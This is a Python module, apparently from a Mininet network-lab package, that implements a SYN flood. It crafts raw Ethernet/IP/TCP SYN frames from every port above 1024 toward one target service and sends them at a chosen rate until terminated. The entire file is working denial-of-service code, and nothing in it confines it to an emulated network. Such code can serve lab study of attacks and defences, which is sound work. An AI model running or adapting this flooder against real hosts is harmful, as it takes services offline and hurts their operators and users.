"""`python -m mininet_labs.attacks.flood MAC ADDRESS PORT --rate R`: SYNs to one service, from all ports, until TERM.

Raw frames in the name of the namespace's first interface, so that no connection is kept on this side; what the target
answers is refused by this machine, as it knows of nothing.
"""

from __future__ import annotations

import argparse
import random
import signal
import socket
import sys

import dpkt

from mininet_labs.attacks import raw

LOWEST_PORT = 1024


def frames(source: tuple[bytes, bytes], target: tuple[bytes, bytes], port: int) -> list[bytes]:
    """A SYN from each port; source and target are (MAC, IPv4 address), packed."""
    ports = random.sample(range(LOWEST_PORT, 1 << 16), (1 << 16) - LOWEST_PORT)
    return [_frame(source, target, own, port) for own in ports]


def _frame(source: tuple[bytes, bytes], target: tuple[bytes, bytes], own: int, port: int) -> bytes:
    syn = dpkt.tcp.TCP(sport=own, dport=port, seq=own, flags=dpkt.tcp.TH_SYN)
    packet = dpkt.ip.IP(src=source[1], dst=target[1], p=dpkt.ip.IP_PROTO_TCP, data=syn)
    packet.len = len(packet)
    return bytes(dpkt.ethernet.Ethernet(src=source[0], dst=target[0], data=packet))


def main() -> None:
    """Flood until TERM."""
    parser = argparse.ArgumentParser()
    parser.add_argument("mac")
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("--rate", type=int, required=True)
    args = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    interface = raw.first_interface()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((args.address, args.port))
        own = socket.inet_aton(probe.getsockname()[0])
    source, target = (raw.mac_of(interface), own), (raw.packed(args.mac), socket.inet_aton(args.address))
    made = frames(source, target, args.port)
    raw.announce()
    raw.send(made, interface, args.rate, behind=0.1)


if __name__ == "__main__":
    main()
